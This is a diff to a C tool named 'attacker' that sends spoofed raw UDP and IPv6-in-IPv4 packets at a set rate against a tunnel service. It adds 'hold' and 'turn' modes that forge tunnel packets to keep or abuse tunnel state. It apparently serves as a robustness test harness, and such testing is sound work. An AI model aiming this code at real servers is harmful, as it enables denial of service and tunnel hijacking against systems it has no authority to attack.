@@ -34,6 +34,8 @@ struct attack {
 	uint32_t source;
 	uint16_t port;
 	int step;
+	/* Of the packets of a tunnel. */
+	struct in6_addr inner;
 };
 
 /* The same sequence in each run. */
@@ -68,21 +70,17 @@ static double seconds(const struct attack *attack)
 	       (double)(now.tv_nsec - attack->start.tv_nsec) / 1e9;
 }
 
-static void send_one(struct attack *attack, uint32_t word, const void *text,
-		     size_t len)
+static struct raw4 ends(const struct attack *attack)
 {
-	const struct raw4 ends = { { htonl(attack->source) },
-				   attack->to.sin_addr,
-				   attack->port,
-				   ntohs(attack->to.sin_port) };
-	uint32_t header[2] = { htonl(word), htonl(1) };
-	uint8_t payload[sizeof(header) + PAYLOAD_MAX];
-	uint8_t packet[RAW4_HEADERS + sizeof(payload)];
-	size_t size;
+	return (struct raw4){ { htonl(attack->source) },
+			      attack->to.sin_addr,
+			      attack->port,
+			      ntohs(attack->to.sin_port) };
+}
 
-	memcpy(payload, header, sizeof(header));
-	memcpy(payload + sizeof(header), text, len);
-	size = raw4_udp(&ends, payload, sizeof(header) + len, packet);
+static void send_packet(struct attack *attack, const uint8_t *packet,
+			size_t size)
+{
 	wait_turn(attack);
 	while (sendto(attack->fd, packet, size, 0,
 		      (struct sockaddr *)&attack->to, sizeof(attack->to)) < 0)
@@ -92,6 +90,20 @@ static void send_one(struct attack *attack, uint32_t word, const void *text,
 		}
 	attack->sent++;
 	attack->octets += size;
+}
+
+static void send_one(struct attack *attack, uint32_t word, const void *text,
+		     size_t len)
+{
+	const struct raw4 raw4 = ends(attack);
+	uint32_t header[2] = { htonl(word), htonl(1) };
+	uint8_t payload[sizeof(header) + PAYLOAD_MAX];
+	uint8_t packet[RAW4_HEADERS + sizeof(payload)];
+
+	memcpy(payload, header, sizeof(header));
+	memcpy(payload + sizeof(header), text, len);
+	send_packet(attack, packet,
+		    raw4_udp(&raw4, payload, sizeof(header) + len, packet));
 }
 
 static void send_text(struct attack *attack, int nth, const char *text)
@@ -165,18 +177,23 @@ static void sessions(struct attack *attack)
 	accept_it(attack);
 }
 
-/* As long as the answers, so that nothing but a proof bounds them. */
-static void padded(struct attack *attack)
+static void padded_session(struct attack *attack)
 {
 	char text[600];
 
-	begin(attack);
 	memset(text, ' ', sizeof(text));
 	memcpy(text, "VERSION=2.0.2\r\n", 15);
 	send_one(attack, FIRST, text, sizeof(text));
 	send_text(attack, 1, "AUTHENTICATE ANONYMOUS\r\n");
 	create(attack, "v6udpv4", false);
 	accept_it(attack);
+}
+
+/* As long as the answers, so that nothing but a proof bounds them. */
+static void padded(struct attack *attack)
+{
+	begin(attack);
+	padded_session(attack);
 }
 
 static void repeats(struct attack *attack)
@@ -242,6 +259,48 @@ static void passdss_padded(struct attack *attack)
 	passdss(attack);
 }
 
+/* A packet of the tunnel, which its first address of ours gets and drops. */
+static void put_inner(const struct attack *attack, uint8_t packet[40])
+{
+	memset(packet, 0, 40);
+	packet[0] = 0x60;
+	packet[6] = 59; /* nothing follows */
+	packet[7] = 64;
+	memcpy(packet + 8, &attack->inner, 16);
+	memcpy(packet + 24, &attack->inner, 8);
+	packet[39] = 1;
+}
+
+/* One session, again and again from the same place, and its packets, which are
+ * guessed: they keep its tunnel. */
+static void hold(struct attack *attack)
+{
+	uint8_t inner[40], packet[RAW4_HEADERS + sizeof(inner)];
+	struct raw4 raw4;
+
+	attack->source = attack->from;
+	attack->port = 4000;
+	if (!attack->step++)
+		padded_session(attack);
+	raw4 = ends(attack);
+	put_inner(attack, inner);
+	send_packet(attack, packet,
+		    raw4_udp(&raw4, inner, sizeof(inner), packet));
+}
+
+/* A packet of a tunnel without ports, to an address that it does not use. */
+static void turn(struct attack *attack)
+{
+	uint8_t inner[40], packet[RAW4_HEADERS + sizeof(inner)];
+	struct raw4 raw4;
+
+	attack->source = attack->from;
+	raw4 = ends(attack);
+	put_inner(attack, inner);
+	send_packet(attack, packet,
+		    raw4_ip(&raw4, IPPROTO_IPV6, inner, sizeof(inner), packet));
+}
+
 static const struct {
 	const char *name;
 	void (*send)(struct attack *attack);
@@ -250,6 +309,7 @@ static const struct {
 	{ "session", sessions }, { "padded", padded },
 	{ "repeat", repeats },	 { "takeover", takeover },
 	{ "passdss", passdss },	 { "passdss-padded", passdss_padded },
+	{ "hold", hold },	 { "turn", turn },
 };
 
 #define KINDS (sizeof(kinds) / sizeof(kinds[0]))
@@ -287,12 +347,15 @@ int main(int argc, char **argv)
 	struct attack attack = { .seed = 20 };
 	size_t kind = 0;
 
+	if (argc == 7 && inet_pton(AF_INET6, argv[6], &attack.inner) == 1)
+		argc--;
 	while (argc == 6 && kind < KINDS &&
 	       strcmp(kinds[kind].name, argv[1]) != 0)
 		kind++;
 	if (argc != 6 || kind == KINDS || !read_from(argv[2], &attack) ||
 	    !read_to(argv[3], &attack)) {
-		fputs("usage: attacker KIND FROM[/BITS] TO:PORT PPS SECONDS\n"
+		fputs("usage: attacker KIND FROM[/BITS] TO:PORT PPS SECONDS "
+		      "[INNER]\n"
 		      "KIND:",
 		      stderr);
 		for (size_t i = 0; i < KINDS; i++)
